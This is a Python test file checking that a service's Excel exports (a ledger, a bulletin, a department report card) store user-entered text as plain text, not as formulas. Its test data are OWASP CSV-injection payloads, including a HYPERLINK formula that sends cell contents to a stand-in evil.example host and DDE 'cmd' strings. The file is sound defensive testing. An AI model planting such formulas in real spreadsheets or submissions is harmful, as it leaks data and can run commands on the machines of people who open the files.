"""Formula injection (OWASP “CSV injection”) and odd stored text in every workbook the service
writes: the ledger (masked and not), the 督查通报 and a department's 成绩单. Whatever anyone
typed is a text cell: never a formula, with its text kept (so the ledger import reads back
what the export wrote), and a character an .xlsx cannot hold never takes an export down."""
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update
from sqlmodel import Session

from models import Issue, User
from service.core.xlsx import FORMULA_STARTS, Column, workbook_bytes, write_table
from service.deadlines.calendar import local_date
from service.intake.categories import save_category, seed_defaults
from service.workflow.transition import WorkflowOptions, transition

from ..console import Console
from ..helpers import REPORTER
from ..ledger.test_ledger import export, importing, wipe_issues
from ..public_helpers import submit_form

HYPERLINK = '=HYPERLINK("http://evil.example/?"&F2&F3,"详情")'
# OWASP's examples, one for each character a formula may start with.
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1"]


def cells(content: bytes):
    """Every cell of every sheet, read back as the office's Excel would load it."""
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(content: bytes, *texts: str) -> None:
    found = cells(content)
    formulas = [(c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert not formulas, formulas
    values = [c.value for c in found]
    for text in texts:
        text = text.replace("\r", "\n")   # XML reads a carriage return as a line feed
        assert text in values, (text, [v for v in values if isinstance(v, str)][:40])
    for c in found:
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


@pytest.mark.parametrize("write_only", [True, False])
def test_every_text_that_starts_like_a_formula_is_written_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("表") if write_only else wb.active
    write_table(ws, [Column("甲"), Column("乙", kind="wrap"), Column("丙", kind="int")],
                [(p, f"{p}说明", 1) for p in PAYLOADS], title=HYPERLINK, note="@note")
    assert_no_formula(workbook_bytes(wb), *PAYLOADS, HYPERLINK, "@note")


def test_characters_an_xlsx_cannot_hold_are_left_out():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("表")
    write_table(ws, [Column("甲"), Column("乙")], [("基础\x1b设施\x00", "换行\n和制表\t保留")], title="台\x0b账")
    values = [c.value for c in cells(workbook_bytes(wb))]
    assert "基础设施" in values and "换行\n和制表\t保留" in values and "台账" in values


def test_an_anonymous_submission_cannot_plant_a_formula_in_the_ledger(app, api, client, county, db, monkeypatch):
    seed_defaults(db)
    monkeypatch.setitem(app.config, "SUBMIT_MIN_SECONDS", 0)
    resp = submit_form(client, title=HYPERLINK, content=f"{HYPERLINK} 请尽快处理园区道路。",
                       org="=1+1", township="@SUM(1)")
    assert resp.status_code in (302, 303), resp.get_data(as_text=True)[:300]
    assert_no_formula(export(api, "coordinator"), HYPERLINK, f"{HYPERLINK} 请尽快处理园区道路。", "=1+1", "@SUM(1)")
    assert_no_formula(export(api, "supervisor"), HYPERLINK, "@SUM(1)")
    assert_no_formula(export(api, "coordinator", masked="1"), HYPERLINK)


def staff_issue(api, **over):
    # The administrator named a category as a formula would start (categories come from his list).
    with Session(api.client.application.extensions["ys"]["engine"]) as s:
        save_category(s, None, code="at-category", name="@分类")
    return api.create_issue(title=HYPERLINK, content=f"+{HYPERLINK}", category="@分类", township="-城关镇",
                            reporter={**REPORTER, "org": "=1+1 科技有限公司"}, **over)


def test_staff_fields_masked_or_not_are_text_and_the_import_reads_them_back(api, county, engine):
    issue = staff_issue(api)
    api.ok("POST", f"/api/v1/issues/{issue['id']}/actions/assign", "coordinator",
           json=api.assign_body(responsible_person="-赵刚", note="=2+2"))
    unmasked = export(api, "coordinator")
    assert_no_formula(unmasked, HYPERLINK, f"+{HYPERLINK}", "@分类", "-城关镇", "=1+1 科技有限公司", "-赵刚")
    assert_no_formula(export(api, "supervisor"), HYPERLINK, f"+{HYPERLINK}", "@分类", "-城关镇", "-赵刚")

    wipe_issues(engine)
    report = importing(engine, county, unmasked, dry_run=False)
    assert report.created == 1, report.as_dict()
    with Session(engine) as s:
        back = s.execute(select(Issue)).scalar_one()
    assert (back.title, back.content, back.category, back.township, back.reporter_org, back.responsible_person) == \
        (HYPERLINK, f"+{HYPERLINK}", "@分类", "-城关镇", "=1+1 科技有限公司", "-赵刚")


def test_odd_characters_already_stored_never_take_an_export_down(api, engine):
    issue = staff_issue(api)
    with engine.begin() as conn:
        conn.execute(update(Issue).where(Issue.id == issue["id"]).values(
            category="基础\x1b设施", title="\t@SUM(1) 标题", township="城关\x07镇"))
    for who, masked in (("coordinator", None), ("coordinator", "1"), ("supervisor", None)):
        content = export(api, who, **({"masked": masked} if masked else {}))
        assert_no_formula(content, "基础设施", "\t@SUM(1) 标题", "城关镇")


def test_the_bulletin_and_the_report_card_keep_a_formula_as_text(app, api, county, engine):
    late = staff_issue(api)
    with Session(engine, expire_on_commit=False) as s:
        coordinator = s.get(User, county.user_id("coordinator"))
        transition(s, coordinator, late["id"], "assign",
                   api.assign_body(lead_department_id=county.dept_id("zrj"), co_department_ids=[],
                                   responsible_person="@赵刚"),
                   datetime.now(timezone.utc) - timedelta(days=40), WorkflowOptions())
    today = local_date(datetime.now(timezone.utc))
    office = Console(app, "supervisor")
    bulletin = office.get(f"/console/reports/bulletin.xlsx?day={today.isoformat()}")
    assert bulletin.status_code == 200
    assert_no_formula(bulletin.data, HYPERLINK, "@赵刚")
    period = f"preset=custom&from={(today - timedelta(days=60)).isoformat()}&to={today.isoformat()}"
    card = Console(app, "coordinator").get(f"/console/reports/departments/{county.dept_id('zrj')}.xlsx?{period}")
    assert card.status_code == 200
    assert_no_formula(card.data, HYPERLINK)
